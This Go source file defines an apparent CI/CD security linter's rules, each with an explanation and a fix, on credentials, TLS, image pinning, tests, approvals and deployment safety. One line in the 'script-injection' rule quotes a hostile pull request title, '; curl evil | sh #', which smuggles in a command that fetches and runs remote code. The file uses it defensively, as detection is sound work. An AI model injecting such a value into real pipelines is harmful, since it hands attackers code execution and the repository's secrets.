package lint

import "slices"

// Rules are all rules in the order they are documented. Each list below is one chapter.
func Rules() []Rule {
	return slices.Concat(credentialRules(), connectionRules(), imageRules(), toolRules(), testRules(), gateRules(), deployRules(), sourceRules())
}

func credentialRules() []Rule {
	return []Rule{
		{
			ID: "stored-cluster-token", Severity: Error, Title: "A cluster's token is kept in CI variables",
			Why: "A service account's token kept as a variable is the same for months, and whoever gets it once, from a log, a job or the settings, can deploy until someone rotates it. Masking hides it from logs, protection from some branches; neither makes it end.",
			Fix: each(oidcGitLab, oidcGitHub),
			check: stored("cluster", func(name string) string {
				return "$" + name + " is a cluster's token kept in variables: it does not end by itself"
			}),
		},
		{
			ID: "stored-kubeconfig", Severity: Error, Title: "A kubeconfig is kept in CI variables",
			Why: "The file holds a client certificate or token that is valid for months or years, often an administrator's. A File variable keeps it out of the environment, not out of the job: any command in it can read the file.",
			Fix: each(oidcGitLab, oidcGitHub),
			check: stored("kubeconfig", func(name string) string {
				return "$" + name + " is a kubeconfig kept in variables: the credentials in it do not end by themselves"
			}),
		},
		{
			ID: "stored-registry-password", Severity: Warning, Title: "A registry's password is kept in CI variables",
			Why: "A password is not bound to this project or to pushing, and works until someone changes it. The provider's own registry takes the job's token; others take a robot account of one repository, or an ID token.",
			Fix: each(`
build:
  script:
    # GitLab's registry: the password is made for this job and ends with it
    - printf '%s' "$CI_REGISTRY_PASSWORD" | buildah login --username "$CI_REGISTRY_USER" --password-stdin "$CI_REGISTRY"
    # another registry: a robot account of this one repository, from Vault or OpenBao by the job's ID token
  secrets:
    QUAY_PASSWORD: {vault: ci/quay/password, file: false}`, `
permissions: {contents: read, packages: write}
steps:
  # GitHub's registry: the token is made for this job and ends with it
  - run: printf '%s' "$TOKEN" | buildah login --username "$GITHUB_ACTOR" --password-stdin ghcr.io
    env: {TOKEN: "${{ github.token }}"}`),
			check: stored("registry", func(name string) string {
				return "$" + name + " is a registry's password kept in variables: it does not end by itself"
			}),
		},
		{
			ID: "stored-cloud-key", Severity: Error, Title: "A cloud provider's key is kept in CI variables",
			Why: "An access key opens the account from anywhere until someone rotates it. Every large provider takes the job's ID token and gives out credentials for an hour.",
			Fix: each(`
job:
  id_tokens:
    ID_TOKEN: {aud: https://gitlab.example.com}
  script:
    - aws sts assume-role-with-web-identity --role-arn "$ROLE" --role-session-name "$CI_JOB_ID" --web-identity-token "$ID_TOKEN"`, `
permissions: {contents: read, id-token: write}
steps:
  - uses: aws-actions/configure-aws-credentials@<commit>  # role-to-assume instead of keys`),
			check: stored("cloud", func(name string) string {
				return "$" + name + " is a cloud provider's key kept in variables: it does not end by itself"
			}),
		},
		{
			ID: "stored-credential", Severity: Info, Title: "A credential is kept in CI variables",
			Why: "It works until someone changes it, for everyone who ever saw it. Where the service takes an ID token, or a secret store can give out a short-lived one, nothing has to be kept.",
			Fix: each(`
job:
  secrets:
    SERVICE_TOKEN: {vault: ci/service/token, file: false}   # by the job's ID token
  # where it has to stay a variable: masked, hidden and protected, and a date to rotate it`, `
jobs:
  deploy:
    environment: production   # keep it as a secret of the environment, not of the repository`),
			check: stored("", func(name string) string {
				return "$" + name + " looks like a credential kept in variables: it does not end by itself"
			}),
		},
		{
			ID: "hardcoded-secret", Severity: Error, Title: "A secret's value stands in the pipeline",
			Why:   "Everyone who can read the repository has it, now and from its history, in every clone and fork.",
			Fix:   both("\n# take it out, change it where it is valid (its history stays), and give it to the job as above"),
			check: hardcoded,
		},
		{
			ID: "password-on-command-line", Severity: Error, Title: "A secret is an argument of a command",
			Why: "Arguments are readable by every process on the runner, appear in its process accounting, and in the log as soon as somebody debugs with set -x.",
			Fix: both(`
printf '%s' "$REGISTRY_PASSWORD" | buildah login --username "$REGISTRY_USER" --password-stdin registry.example.com
# a pull secret, created or updated, never shown:
printf '%s' "$REGISTRY_PASSWORD" | fairlead registry-secret pull --server registry.example.com --username "$REGISTRY_USER" --password-stdin -n shop
# a cluster: no token at all
fairlead ci kubeconfig`),
			check: eachCommand(passwordOnCommandLine),
		},
		{
			ID: "secret-in-values", Severity: Warning, Title: "A secret is given as a chart value",
			Why:   "Helm keeps all values in the release, once for each revision; helm get values shows them, and so does the process list while it runs.",
			Fix:   both("\n# the chart names a Secret that exists already, made by an ExternalSecret or a SealedSecret\nfairlead deploy shop ./chart -n shop --set existingSecret=shop-credentials"),
			check: eachCommand(secretInSet),
		},
		{
			ID: "secret-in-url", Severity: Warning, Title: "A secret is part of a URL",
			Why:   "Git writes it to .git/config, tools print the URL in errors, and proxies log it.",
			Fix:   each("\n# let git ask for it\ngit config --global credential.helper '!f() { echo username=gitlab-ci-token; echo \"password=$CI_JOB_TOKEN\"; }; f'", "\n# actions/checkout sets up git with the job's token"),
			check: eachCommand(secretInURL),
		},
		{
			ID: "secret-in-log", Severity: Error, Title: "A secret is printed into the log",
			Why:   "Masking compares text with the exact value: encoded, cut or on several lines it passes. Logs are kept, downloaded and sent on.",
			Fix:   both("\n# say that it is there, not what it is\ntest -n \"$API_TOKEN\" || { echo 'API_TOKEN is not set' >&2; exit 1; }"),
			check: eachCommand(echoed),
		},
		{
			ID: "debug-trace", Severity: Error, Title: "The runner is told to print everything",
			Why:   "Debug traces hold every variable of the job, secrets included.",
			Fix:   both("\n# take it out; set it for one run in the provider's form, and delete that run's log afterwards"),
			check: debugTrace,
		},
		{
			ID: "long-lived-token", Severity: Error, Title: "A token without an end is made",
			Why:   "It outlives the job, the person who made it and often the reason for it.",
			Fix:   both("\n# for a person or a machine without an ID token of its own: minutes, not months\nkubectl create token deployer --duration 15m"),
			check: eachCommand(longLivedToken),
		},
		{
			ID: "broad-role", Severity: Error, Title: "A role allows far more than a deployment needs",
			Why:   "The role edit may read every Secret of the namespace and run pods as any service account in it; admin may also grant rights. Whoever gets the pipeline's credentials gets that.",
			Fix:   both("\n# the smallest Role with which this chart can be deployed and rolled back\nfairlead chart rbac ./chart -f values-prod.yaml | kubectl apply -f -"),
			check: eachCommand(broadRole),
		},
		{
			ID: "removed-job-jwt", Severity: Error, Title: "A job token that GitLab removed",
			Why:   "CI_JOB_JWT and CI_JOB_JWT_V2 were removed in GitLab 17; id_tokens name the audience they are for, so that one service cannot use them at another.",
			Fix:   onGitLab("\njob:\n  id_tokens:\n    VAULT_ID_TOKEN: {aud: https://vault.example.com}"),
			check: removedJWT,
		},
	}
}

const oidcGitLab = `
deploy:
  id_tokens:                                # a token of this job, valid for minutes
    FAIRLEAD_ID_TOKEN: {aud: fairlead-production}
  script:
    - fairlead ci kubeconfig --audience fairlead-production   # $KUBE_SERVER and $KUBE_CA are no secrets
    - fairlead deploy shop ./chart -n shop --atomic --timeout 10m`

const oidcGitHub = `
deploy:
  permissions: {contents: read, id-token: write}   # a token of this job, valid for minutes
  steps:
    - run: fairlead ci kubeconfig --audience fairlead-production   # KUBE_SERVER and KUBE_CA are no secrets
    - run: fairlead deploy shop ./chart -n shop --atomic --timeout 10m`

func connectionRules() []Rule {
	const verified = `
# give the certificate authority to whoever checks; it is no secret
fairlead ci kubeconfig --certificate-authority "$KUBE_CA"      # or kubectl/oc --certificate-authority=ca.pem
curl --cacert ca.pem https://internal.example.com
# in a runner image: COPY ca.pem /usr/local/share/ca-certificates/ && update-ca-certificates`
	return []Rule{
		{
			ID: "tls-verification-off", Severity: Error, Title: "A server's certificate is not checked",
			Why:   "Whoever stands between the runner and the server can read the credentials and change what is sent or downloaded. It is mostly done because of a private certificate authority, which can be given instead.",
			Fix:   both(verified),
			check: eachCommand(tlsOff),
		},
		{
			ID: "tls-off-by-variable", Severity: Error, Title: "A variable turns the check of certificates off",
			Why:   "It holds for every command of the job, and is easily forgotten. An unencrypted Docker daemon gives root to whoever reaches its port.",
			Fix:   both(verified),
			check: tlsOffByVariable,
		},
		{
			ID: "host-key-unchecked", Severity: Error, Title: "SSH takes any server for the right one",
			Why:   "The key that answers first is believed, and it is handed the job's credentials.",
			Fix:   both("\ninstall -D -m 600 \"$SSH_KNOWN_HOSTS\" ~/.ssh/known_hosts     # a file variable; no secret"),
			check: eachCommand(hostKeyUnchecked),
		},
	}
}

func imageRules() []Rule {
	const pinned = `
image: registry.example.com/ci/runner:1.4.0@sha256:<digest>    # crane digest IMAGE tells it; Renovate keeps it new`
	const bySHA = `
IMAGE: registry.example.com/shop
buildah build --tag "$IMAGE:$CI_COMMIT_SHA" .        # on GitHub: ${{ github.sha }}
buildah push "$IMAGE:$CI_COMMIT_SHA"
fairlead deploy shop ./chart --set-string "image.tag=$CI_COMMIT_SHA"`
	return []Rule{
		{
			ID: "image-latest", Severity: Error, Title: "A job runs in whatever image is newest",
			Why:   "The same commit runs with other tools tomorrow, and whoever can push that image runs code with this job's credentials.",
			Fix:   both(pinned),
			check: eachJob(runsLatest),
		},
		{
			ID: "image-not-pinned", Severity: Warning, Title: "An image is named without its digest",
			Why:   "A tag can be moved to another image, by its owner or by someone who took over the account; a digest cannot.",
			Fix:   both(pinned),
			check: eachJob(unpinned),
		},
		{
			ID: "builds-latest", Severity: Error, Title: "The application is built or deployed as latest",
			Why:   "The tag says nothing about the commit, a rollback pulls the same broken image, and a Deployment whose tag did not change restarts nothing.",
			Fix:   both(bySHA),
			check: either(eachCommand(moving), eachJob(movingByAction)),
		},
		{
			ID: "tag-not-from-commit", Severity: Warning, Title: "An image's tag does not name its commit",
			Why:   "Nobody can tell from what runs which source it is, and a later build replaces what was tested.",
			Fix:   both(bySHA),
			check: eachJob(tagNotFromCommit),
		},
		{
			ID: "docker-in-docker", Severity: Warning, Title: "Building needs a privileged Docker daemon",
			Why:   "A privileged container is root on the runner's host, and with it has the credentials of every other job there.",
			Fix:   both("\n# buildah needs no daemon and no privileges\nbuildah build --isolation chroot --tag \"$IMAGE:$CI_COMMIT_SHA\" .\nbuildah push \"$IMAGE:$CI_COMMIT_SHA\""),
			check: eachJob(dockerInDocker),
		},
		{
			ID: "image-lost-between-jobs", Severity: Error, Title: "A job pushes what another job's daemon built",
			Why:   "Each job has a Docker daemon of its own, which ends with it; nothing carries the image over. On a runner with a shared daemon it works by accident.",
			Fix:   both("\n# build and push in one job\nbuildah build --tag \"$IMAGE:$CI_COMMIT_SHA\" . && buildah push \"$IMAGE:$CI_COMMIT_SHA\""),
			check: eachJob(lostImage),
		},
	}
}

func toolRules() []Rule {
	const runner = `
# build one image with all tools, pinned, and use it for every job: fairlead ci init writes its Dockerfile
default:
  image: registry.example.com/ci/runner@sha256:<digest>`
	return []Rule{
		{
			ID: "pipe-to-shell", Severity: Error, Title: "A script from the network is run as it comes",
			Why:   "Whoever can change what that address answers runs code with this job's credentials; and when it is away, nothing can be deployed.",
			Fix:   both(runner),
			check: eachCommand(pipedToShell),
		},
		{
			ID: "tool-installed-in-job", Severity: Warning, Title: "A tool is installed in every run",
			Why:   "It costs time, fails when the network or the source does, and is another version one day. A download that is compared with no checksum is whatever the address answers.",
			Fix:   both(runner),
			check: eachCommand(downloaded),
		},
		{
			ID: "endless-wait", Severity: Warning, Title: "A loop waits without end",
			Why:   "What never comes holds the runner until the job's limit, and the log says nothing.",
			Fix:   both("\ntimeout 60 sh -c 'until docker info >/dev/null 2>&1; do sleep 1; done'"),
			check: eachJob(endlessWait),
		},
	}
}

func testRules() []Rule {
	return []Rule{
		{
			ID: "no-tests", Severity: Error, Title: "Nothing is tested before it is deployed",
			Why:   "A pipeline without tests carries every mistake to its users, faster than before.",
			Fix:   each("\ntest:\n  stage: test\n  script:\n    - pytest --junitxml=report.xml\n  artifacts: {when: always, reports: {junit: report.xml}}", "\ntest:\n  runs-on: ubuntu-24.04\n  steps:\n    - uses: actions/checkout@<commit>\n    - run: pytest"),
			check: noTests,
		},
		{
			ID: "placeholder-test", Severity: Error, Title: "A test job tests nothing",
			Why:   "It is green whatever the code does, and everyone after it believes it.",
			Fix:   both("\nscript:\n  - pytest --junitxml=report.xml"),
			check: eachJob(placeholderTest),
		},
		{
			ID: "test-failure-ignored", Severity: Error, Title: "A failed test stops nothing",
			Why:   "What the test found is deployed all the same. A flaky test is repaired or taken out; forgiving it forgives the real failure too.",
			Fix:   both("\n# take out allow_failure, continue-on-error and \"|| true\"; where the runner is at fault:\nretry: {max: 1, when: [runner_system_failure]}"),
			check: eachJob(testFailureIgnored),
		},
		{
			ID: "tests-bypassed", Severity: Error, Title: "A deployment does not wait for the tests",
			Why:   "In GitLab needs replaces the order of stages, in GitHub it is the only order there is: a deployment that does not need the tests, directly or through what it needs, starts beside them.",
			Fix:   both("\ndeploy:\n  needs: [test, build]"),
			check: testsBypassed,
		},
		{
			ID: "chart-not-tested", Severity: Warning, Title: "A chart is deployed that nothing checks",
			Why:   "A misspelled value or template is found by the cluster it breaks.",
			Fix:   both("\nchart:\n  script:\n    - fairlead chart test ./chart"),
			check: chartUntested,
		},
		{
			ID: "no-secret-scanning", Severity: Warning, Title: "Nothing looks for committed secrets",
			Why:   "A secret that was pushed is known to others, however quickly it is taken out again; found before the push it is only a mistake.",
			Fix:   each("\nsecrets:\n  stage: test\n  variables: {GIT_DEPTH: \"0\"}\n  script:\n    - fairlead scan --history\n# and before each commit: fairlead scan --staged", "\nsecrets:\n  runs-on: ubuntu-24.04\n  steps:\n    - uses: actions/checkout@<commit>\n      with: {fetch-depth: 0}\n    - run: fairlead scan --history"),
			check: noSecretScan,
		},
	}
}

func gateRules() []Rule {
	return []Rule{
		{
			ID: "no-approval", Severity: Error, Title: "Nobody has to approve a deployment to production",
			Why: "Tests find what someone thought of. A person, or a rule that asks one, is the last to say no; and a record of who said yes.",
			Fix: each("\ndeploy-production:\n  rules:\n    - if: $CI_COMMIT_BRANCH == $CI_DEFAULT_BRANCH\n      when: manual            # protect the environment too: Settings, CI/CD, Protected environments\n      allow_failure: false\n  environment: production",
				"\ndeploy-production:\n  environment: production   # Settings, Environments: required reviewers, only the main branch"),
			check: noApproval,
		},
		{
			ID: "no-staging", Severity: Warning, Title: "Production is the first place a change runs",
			Why:   "Configuration, migrations and rights are tested by deploying them somewhere; without another environment that somewhere is production.",
			Fix:   each("\nstages: [test, build, staging, production]\ndeploy-staging:\n  stage: staging\n  environment: staging\n  script:\n    - fairlead deploy shop ./chart -n shop-staging -f values-staging.yaml --atomic --timeout 10m", "\ndeploy-staging:\n  needs: [test, build]\n  environment: staging\n  steps:\n    - run: fairlead deploy shop ./chart -n shop-staging -f values-staging.yaml --atomic --timeout 10m"),
			check: noStaging,
		},
		{
			ID: "main-to-production", Severity: Error, Title: "A push to main is in production at once",
			Why:   "Between a merge and the users there is neither another environment nor a person.",
			Fix:   each("\n# fairlead ci init gitlab writes it: test, build, dev, staging, a person, production", "\n# fairlead ci init github writes it: test, build, dev, staging, a person, production"),
			check: mainToProduction,
		},
		{
			ID: "no-environment", Severity: Warning, Title: "A deployment belongs to no environment",
			Why:   "Without one there is no list of what runs where, nothing to protect, and no way back in the provider's interface.",
			Fix:   each("\ndeploy:\n  environment:\n    name: production\n    deployment_tier: production", "\ndeploy:\n  environment: production"),
			check: eachJob(noEnvironment),
		},
		{
			ID: "deploys-race", Severity: Warning, Title: "Two deployments can run at the same time",
			Why:   "Two pushes within minutes deploy side by side; the older may finish last and win, or both fail on Helm's lock.",
			Fix:   each("\ndeploy:\n  resource_group: production", "\ndeploy:\n  concurrency: {group: production, cancel-in-progress: false}"),
			check: eachJob(deploysRace),
		},
		{
			ID: "deploy-interruptible", Severity: Warning, Title: "A deployment is cancelled by the next one",
			Why:   "It ends wherever it is: some objects new, some old, a release that nobody finishes or rolls back.",
			Fix:   each("\ndeploy:\n  interruptible: false", "\nconcurrency: {group: production, cancel-in-progress: false}"),
			check: eachJob(interruptible),
		},
		{
			ID: "deploy-failure-ignored", Severity: Error, Title: "A failed deployment leaves the pipeline green",
			Why:   "Everyone believes the new version runs.",
			Fix:   both("\n# take out allow_failure, continue-on-error and \"|| true\""),
			check: eachJob(deployFailureIgnored),
		},
	}
}

func deployRules() []Rule {
	const deploy = "\nfairlead deploy shop ./chart -n shop -f values-prod.yaml --atomic --timeout 10m\n# or: helm upgrade --install shop ./chart -n shop -f values-prod.yaml --atomic --timeout 10m"
	const plain = "\nfairlead apply -f manifests/ -n shop      # waits, prunes, and names the cause of a failure\n# or: kubectl apply -f manifests/ && kubectl rollout status deployment/shop --timeout 5m"
	return []Rule{
		{
			ID: "deploy-not-atomic", Severity: Warning, Title: "A failed upgrade is not rolled back",
			Why:   "The release stays broken, half new and half old, until someone is there to mend it.",
			Fix:   both(deploy),
			check: eachCommand(notAtomic),
		},
		{
			ID: "deploy-without-timeout", Severity: Warning, Title: "An upgrade has no time of its own",
			Why:   "The default of five minutes ends a slow start, and a job's limit of an hour ends a hopeless one.",
			Fix:   both(deploy),
			check: eachCommand(noTimeout),
		},
		{
			ID: "deploy-not-idempotent", Severity: Warning, Title: "A deployment works only once, or never first",
			Why:   "A job that is run again, or in a new namespace, fails for no reason of the application's.",
			Fix:   both(deploy),
			check: eachCommand(notIdempotent),
		},
		{
			ID: "deploy-not-verified", Severity: Error, Title: "A deployment is not waited for",
			Why:   "That the API server took the manifest says nothing about whether the image exists or the application starts.",
			Fix:   both(plain),
			check: eachJob(notVerified),
		},
		{
			ID: "bare-pod", Severity: Error, Title: "A Pod is deployed without a controller",
			Why:   "It is not started again on another node, has no second copy, and most of its fields cannot be changed: the next deployment fails or needs downtime.",
			Fix:   both("\n# a Deployment with at least two replicas and probes, in a chart or a folder of manifests\nfairlead apply -f manifests/ -n shop"),
			check: eachCommand(barePod),
		},
		{
			ID: "manifest-in-pipeline", Severity: Warning, Title: "A manifest is written into the pipeline",
			Why:   "No schema, test or review tool sees it, an object that is taken out of it stays in the cluster, and a variable's value becomes part of the YAML.",
			Fix:   both("\nfairlead apply -f manifests/ -n shop"),
			check: eachCommand(manifestInPipeline),
		},
		{
			ID: "many-set-flags", Severity: Info, Title: "Configuration lives in the command line",
			Why:   "What an environment gets is scattered over the pipeline, and no diff of a file shows a change of it. --set is for what only the run knows, such as the tag.",
			Fix:   both("\nfairlead deploy shop ./chart -f values-prod.yaml --set-string \"image.tag=$CI_COMMIT_SHA\""),
			check: eachCommand(manySets),
		},
	}
}

func sourceRules() []Rule {
	return []Rule{
		{
			ID: "include-not-pinned", Severity: Warning, Title: "Jobs from elsewhere are included as they are",
			Why:   "Whoever may push there runs code with this project's variables.",
			Fix:   onGitLab("\ninclude:\n  - project: platform/ci\n    ref: 3f2c9d0e5b7a41c8a6f1d2e3b4c5d6e7f8091a2b     # a commit\n    file: deploy.yml\n  - remote: https://ci.example.com/deploy.yml\n    integrity: sha256-<digest>"),
			check: includeUnpinned,
		},
		{
			ID: "action-not-pinned", Severity: Warning, Title: "An action is named by a tag or branch",
			Why:   "Tags of actions were moved to hostile code before, and every workflow that named them ran it with its secrets.",
			Fix:   onGitHub("\n- uses: actions/checkout@<40 digits of the commit>    # v5.0.0"),
			check: eachJob(actionUnpinned),
		},
		{
			ID: "pull-request-target", Severity: Error, Title: "A stranger's code runs with this repository's rights",
			Why:   "pull_request_target gives the job the repository's secrets and a token that may write; checking out the pull request's code and running any of it hands both over.",
			Fix:   onGitHub("\non: pull_request      # for what runs the change; label and comment in a second workflow that checks out nothing"),
			check: pullRequestTarget,
		},
		{
			ID: "script-injection", Severity: Error, Title: "A stranger's text becomes part of a script",
			Why:   "Expressions are put into the script before a shell reads it: a title such as \"; curl evil | sh #\" is run.",
			Fix:   onGitHub("\n- env: {TITLE: \"${{ github.event.pull_request.title }}\"}\n  run: printf '%s\\n' \"$TITLE\""),
			check: eachJob(scriptInjection),
		},
		{
			ID: "token-may-write", Severity: Warning, Title: "The job's token may do more than it needs",
			Why:   "Every action and every dependency that runs in the job can use it.",
			Fix:   onGitHub("\npermissions: {contents: read}      # at the top; a job that needs more says so itself"),
			check: tokenRights,
		},
	}
}
